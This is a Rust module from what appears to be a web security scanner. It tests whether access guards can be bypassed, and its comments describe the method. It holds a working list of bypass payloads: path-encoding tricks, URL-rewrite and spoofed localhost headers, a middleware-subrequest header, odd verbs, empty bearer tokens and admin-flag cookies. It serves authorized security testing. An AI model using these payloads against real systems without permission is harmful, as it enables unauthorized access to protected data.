//! Whether a guard can be walked around (CWE-288, CWE-863): by another spelling of the path, by headers that rewrite it or say
//! where one comes from, by another verb, or by credentials that are none.
//!
//! 1. Reads that refuse nobody (anonymous) or a lower role, and give somebody an answer that does not change by itself. That is
//!    the control; the refusal is the negative twin.
//! 2. The refused one sends the same in other forms: the path raw, as no client would write it; headers that some frameworks
//!    route by; headers of proxies with an address of the machine itself; a verb that nobody guards; empty credentials.
//! 3. It is proven when the answer is the control's, twice, and the plain request is refused before and after.
//!
//! Status alone says nothing: a page of one's own for what is not there is answered 200 by many.

use std::collections::BTreeSet;

use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase, usable};
use crate::compare::Profile;
use crate::field::{Field, Known};
use crate::learn::works;
use crate::matrix::Access;
use crate::standing::standing;
use crate::verdict::{Outcome, Proof, Verdict};
use crate::wire::{Answer, Request, WireError};

pub(super) struct AuthenticationBypass;

const ID: &str = "authentication-bypass";

impl Attack for AuthenticationBypass {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Read
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

/// Reads that are tried, of different parts of the application.
const TRIED: usize = 4;

async fn run(field: &Field) -> Result<(), WireError> {
    if field.signed_in().next().is_none() {
        field.not_tested(ID, "nobody is signed in; hint: `[[identities]]`");
        return Ok(());
    }
    let mut parts: Vec<String> = Vec::new();
    let mut tested = 0_usize;
    let mut unknown = BTreeSet::new();
    for (known, who) in guarded(field).await? {
        let part = part_of(&known.call.template, who);
        if tested >= TRIED || parts.contains(&part) {
            continue;
        }
        parts.push(part);
        if attack(field, known, who, &mut unknown).await? {
            tested = tested.saturating_add(1);
        }
    }
    if tested == 0 {
        field.not_tested(
            ID,
            "no read is refused to anybody and gives somebody else an answer that stays the same",
        );
    }
    Ok(())
}

/// The part of the application that a path is of: guards are written for parts.
fn part_of(template: &str, who: usize) -> String {
    let segments: Vec<&str> = template.split('/').filter(|part| !part.is_empty()).take(2).collect();
    let most = if segments.len() > 1 { segments.len().saturating_sub(1) } else { 1 };
    format!("{who}/{}", segments.into_iter().take(most).collect::<Vec<_>>().join("/"))
}

/// Reads with somebody who is refused them: an administrator's for somebody of a lower role, others for nobody.
async fn guarded(field: &Field) -> Result<Vec<(&Known, usize)>, WireError> {
    let mut found = Vec::new();
    for known in field.examples() {
        let plain = known.call.method == "GET" && known.who != 0;
        let refused = known.anonymous.as_ref().is_some_and(|answer| field.is_refusal(answer));
        if !plain || !refused || known.answer.body.is_empty() {
            continue;
        }
        let lower = field.signed_in().find(|who| standing(field, *who) < standing(field, known.who));
        if let Some(low) = lower
            && let Some(answer) = usable(field.call(low, &known.call).await)?
            && matches!(answer.status, 401 | 403)
        {
            found.push((known, low));
        }
        found.push((known, 0));
    }
    // Data before pages.
    found.sort_by_key(|(known, who)| (*who == 0, known.answer.json().is_none()));
    Ok(found)
}

/// Another form of a request.
struct Form {
    aspect: &'static str,
    says: String,
    request: Request,
}

fn forms(field: &Field, plain: &Request) -> Vec<Form> {
    let (path, query) = plain
        .target
        .split_once('?')
        .map_or((plain.target.as_str(), String::new()), |(path, query)| (path, format!("?{query}")));
    let mut all = Vec::new();
    let mut add =
        |aspect: &'static str, says: String, request: Request| all.push(Form { aspect, says, request });
    let (parent, last) = path.rsplit_once('/').unwrap_or(("", path));
    let encoded: String = match last.bytes().next() {
        Some(first) => format!("{parent}/%{first:02x}{}", last.get(1..).unwrap_or_default()),
        None => path.to_owned(),
    };
    let upper = |text: &str| text.to_ascii_uppercase();
    let capital: String =
        path.splitn(3, '/')
            .map(|part| {
                if part == path.split('/').nth(1).unwrap_or_default() { upper(part) } else { part.to_owned() }
            })
            .collect::<Vec<_>>()
            .join("/");
    for target in [
        format!("/{path}"),
        format!("/.{path}"),
        format!("/%2e{path}"),
        format!("{parent}//{last}"),
        format!("{parent}/./{last}"),
        format!("{parent}/x/../{last}"),
        format!("{path}/"),
        format!("{path}/."),
        format!("{path};"),
        format!("{path};x=y"),
        format!("/;{path}"),
        format!("{parent}/;/{last}"),
        format!("{path}%20"),
        format!("{path}%09"),
        format!("{path}%00"),
        format!("{path}%2f"),
        format!("{path}.json"),
        format!("{path}.html"),
        format!("/static/..{path}"),
        format!("/static/..;{path}"),
        encoded,
        upper(path),
        capital,
    ] {
        let request = Request { target: format!("{target}{query}"), ..plain.clone() };
        add("path", format!("by the path `{target}`"), request);
    }
    for header in ["X-Original-URL", "X-Rewrite-URL", "X-Original-Uri"] {
        let elsewhere = Request { target: field.wire.origin().path().to_owned(), ..plain.clone() };
        add("rewrite", format!("by `{header}` at the first page"), elsewhere.header(header, &plain.target));
    }
    let mut near = plain.clone();
    for header in ADDRESSES {
        near = near.header(header, "127.0.0.1");
    }
    near = near.header("Forwarded", "for=127.0.0.1;host=localhost;proto=https");
    add("address", "by headers that say it comes from the machine itself".to_owned(), near);
    let host = plain.clone().header("Host", "localhost").header("X-Forwarded-Host", "localhost");
    add("address", "by the host `localhost`".to_owned(), host);
    for value in [
        "middleware:middleware:middleware:middleware:middleware",
        "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware",
    ] {
        add(
            "address",
            "by a header that says a part of the application asks".to_owned(),
            plain.clone().header("X-Middleware-Subrequest", value),
        );
    }
    for verb in ["PROBE", "PROPFIND", "get"] {
        add("verb", format!("by the verb `{verb}`"), Request { method: verb.to_owned(), ..plain.clone() });
    }
    for value in ["Bearer null", "Bearer undefined", "Bearer ", "Basic Og=="] {
        add(
            "credentials",
            format!("by `Authorization: {value}`"),
            plain.clone().header("Authorization", value),
        );
    }
    let flags =
        plain.clone().header("Cookie", "admin=true; is_admin=1; role=admin; authenticated=true; logged_in=1");
    add("credentials", "by cookies that say they are an administrator's".to_owned(), flags);
    let sign = if query.is_empty() { '?' } else { '&' };
    let asked = Request {
        target: format!("{}{sign}admin=true&is_admin=1&debug=true&authenticated=1", plain.target),
        ..plain.clone()
    };
    add("credentials", "by parameters that say they are an administrator's".to_owned(), asked);
    all
}

const ADDRESSES: &[&str] = &[
    "X-Forwarded-For",
    "X-Real-Ip",
    "X-Client-Ip",
    "X-Originating-Ip",
    "X-Remote-Ip",
    "X-Remote-Addr",
    "Client-Ip",
    "True-Client-Ip",
    "Cf-Connecting-Ip",
    "X-Cluster-Client-Ip",
    "X-Custom-Ip-Authorization",
    "X-Forwarded",
];

/// Whether there was something to test.
async fn attack(
    field: &Field,
    known: &Known,
    who: usize,
    unknown: &mut BTreeSet<usize>,
) -> Result<bool, WireError> {
    let id = format!("{} {}", known.call.method, known.call.template);
    let (Some((plain, control)), Some(again)) = (
        usable(field.exchange(known.who, &known.call).await)?,
        usable(field.call(known.who, &known.call).await)?,
    ) else {
        return Ok(false);
    };
    let Some(profile) = Profile::of(&[&control, &again]).filter(Profile::is_calm) else { return Ok(false) };
    let Some(refused) = usable(field.request(who, &plain).await)? else { return Ok(false) };
    let is_control = |answer: &Answer| works(field, answer) && profile.fits(answer, "", "");
    if is_control(&refused) || !works(field, &control) || control.body.len() < 8 {
        return Ok(false);
    }
    let mut found: Vec<&str> = Vec::new();
    for (at, form) in forms(field, &plain).into_iter().enumerate() {
        let itself = form.aspect == "path" && form.request.target == plain.target;
        if itself || found.contains(&form.aspect) || unknown.contains(&at) {
            continue;
        }
        let Some(answer) = usable(field.request(who, &form.request).await)? else { continue };
        // How a path is read is the same everywhere: what leads nowhere in one part does so in the others.
        let elsewhere = field.is_missing(&answer) || matches!(answer.status, 400 | 405 | 501);
        if elsewhere && !field.is_missing(&refused) && matches!(form.aspect, "path" | "verb") {
            unknown.insert(at);
        }
        if !is_control(&answer) {
            continue;
        }
        let Some(answer) = usable(field.request(who, &form.request).await)?.filter(is_control) else {
            continue;
        };
        let Some(twin) = usable(field.request(who, &plain).await)? else { continue };
        if is_control(&twin) {
            return Ok(false);
        }
        found.push(form.aspect);
        let (person, owner) = (field.person(who), field.person(known.who));
        let says = format!("`{}` gets what it is refused to them, {}", person.name, form.says);
        field.saw(&id, who, Access::Violation, says.as_str());
        let evidence = format!("the answer is the one that `{}` gets", owner.name);
        let proof = Proof::new(field.evidence(who, &form.request, &answer), evidence)
            .twin(field.evidence(who, &plain, &twin))
            .shown(field.evidence(known.who, &plain, &control));
        field.say(Outcome::new(ID, &id, Verdict::Proven, says).aspect(form.aspect).proof(proof));
    }
    if found.is_empty() {
        let says =
            format!("no other form of the request gives `{}` what they are refused", field.person(who).name);
        field.saw(&id, who, Access::Denied, format!("refused with {}", refused.status));
        field.say(Outcome::new(ID, &id, Verdict::Passed, says));
    }
    Ok(true)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parts_are_what_guards_are_written_for() {
        assert_eq!(part_of("/api/notes/{id}", 0), "0/api");
        assert_eq!(part_of("/admin", 2), "2/admin");
        assert_eq!(part_of("/", 0), "0/");
    }
}
